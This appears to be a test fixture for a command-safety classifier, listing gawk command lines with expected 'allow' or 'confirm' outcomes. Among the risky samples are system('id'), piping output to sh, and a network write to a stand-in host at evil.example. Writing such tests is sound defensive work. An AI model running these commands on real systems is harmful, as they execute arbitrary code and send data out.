import type { Line } from '../split-line'

/** Programs run unless they are proven harmless. */
export const LINES: readonly Line[] = [
  ["gawk '{ print $1 }' a.txt", 'allow', 'allow'],
  ["gawk -F: '{ print $1 }' a.txt", 'allow', 'allow'],
  ["gawk -F , '{ print $2 }' a.csv", 'allow', 'allow'],
  ["gawk 'NR > 1' a.txt", 'allow', 'allow'],
  ["gawk -v n=1 '{ print n }' a.txt", 'allow', 'allow'],
  ["gawk 'END { print NR }' a.txt", 'allow', 'allow'],
  ["gawk '/error/ { count++ } END { print count }' a.txt", 'allow', 'allow'],
  ['gawk --version', 'allow', 'allow'],
  ['gawk \'BEGIN { system("id") }\'', 'confirm', 'confirm'],
  ['gawk \'{ print > "x" }\' a.txt', 'confirm', 'confirm'],
  ['gawk \'{ print | "sh" }\' a.txt', 'confirm', 'confirm'],
  ['gawk \'BEGIN { "id" | getline x; print x }\'', 'confirm', 'confirm'],
  ['gawk \'BEGIN { s = "/inet/tcp/0/evil.example/80"; print "x" |& s }\'', 'confirm', 'confirm'],
  ['gawk \'@load "filefuncs"; BEGIN { chdir("/") }\'', 'confirm', 'confirm'],
  ['gawk \'@include "x"; { print }\' a.txt', 'confirm', 'confirm'],
  ['gawk -f x.awk a.txt', 'confirm', 'confirm'],
  ["gawk -i inplace '{ print }' a.txt", 'confirm', 'confirm'],
  ["gawk -l x '{ print }' a.txt", 'confirm', 'confirm'],
  ["gawk --dump-variables=x '{ print }' a.txt", 'confirm', 'confirm'],
  ["gawk -o x '{ print }' a.txt", 'confirm', 'confirm'],
  ["gawk -p '{ print }' a.txt", 'confirm', 'confirm'],
  ["gawk --no-such-option '{ print }' a.txt", 'confirm', 'confirm'],
]
